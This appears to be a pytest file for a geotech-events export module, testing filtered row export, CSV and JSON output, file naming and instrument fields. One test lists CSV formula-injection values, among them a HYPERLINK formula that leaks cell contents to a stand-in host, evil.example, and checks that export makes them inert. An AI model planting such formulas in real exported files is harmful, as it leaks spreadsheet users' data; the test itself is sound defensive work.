from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

from core import export
from core.queries import Filters, count, export_rows


def test_export_rows_match_the_filter_and_keep_evidence(fixture_store_path: Path) -> None:
    f = Filters(countries=("CN",))
    rows = export_rows(fixture_store_path, f)
    assert len(rows) == count(fixture_store_path, f) >= 2
    assert all("CN" in r["countries"] for r in rows)
    gallium = next(r for r in rows if "gallium" in r["title"])
    assert gallium["source_urls"] == ["https://example.org/news/gallium"]
    assert any(e["value"] == "critical_minerals" and e["cues"] for e in gallium["evidence"])
    table = list(csv.DictReader(io.StringIO(export.to_csv(rows))))
    assert [r["id"] for r in table] == [r["id"] for r in rows]
    assert json.loads(table[0]["evidence"])
    assert json.loads(export.to_json(rows))[0]["id"] == rows[0]["id"]


def test_file_name_says_filters_and_date() -> None:
    name = export.file_name(Filters(themes=("ai",), countries=("JP", "US"), q="chips/AI"), dt.date(2026, 11, 23), "csv")
    assert name == "geotech-events_theme-ai_country-JP+US_q-chips-AI_2026-11-23.csv"


def test_csv_cells_never_start_with_a_formula_prefix() -> None:
    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]
    rows = [{"id": f"e{i}", "date": dt.date(2024, 1, 1), "date_precision": "day", "scheduled": False, "title": t,
             "summary": t, "themes": [], "countries": [], "organizations": [t], "relations": [], "source_urls": [],
             "instrument_id": None, "instrument_name": t, "stage": None, "evidence": []} for i, t in enumerate(hostile)]
    table = list(csv.reader(io.StringIO(export.to_csv(rows))))
    cells = [cell for row in table[1:] for cell in row]
    assert not [c for c in cells if c.startswith(export.FORMULA_PREFIXES)]
    titles = [row[table[0].index("title")] for row in table[1:]]
    assert titles == ["'" + t for t in hostile]  # the text is kept, only made inert


def test_export_keeps_instrument_and_stage(tmp_path: Path) -> None:
    from core.pipeline import ingest
    from core.store import Store

    src = tmp_path / "t.jsonl"
    src.write_text(json.dumps({
        "id": "tl-2024-08-01-act", "date": "2024-08-01", "title": "The act enters into force",
        "summary": "The European Union's AI act enters into force.", "themes": ["ai"], "countries": ["EU"],
        "orgs": ["European Commission"], "relations": [], "sources": [{"url": "https://example.org/act", "name": "EU"}],
        "instrument": {"id": "eu-act", "name": "The act"}, "stage": "in_force"}) + "\n", encoding="utf-8")
    ingest([src], Store(tmp_path / "s.duckdb"))
    (row,) = export_rows(tmp_path / "s.duckdb", Filters(instruments=("eu-act",)))
    assert (row["instrument_id"], row["instrument_name"], row["stage"]) == ("eu-act", "The act", "in_force")
    (line,) = csv.DictReader(io.StringIO(export.to_csv([row])))
    assert (line["instrument_name"], line["stage"], line["organizations"]) == ("The act", "in_force", "European Commission")
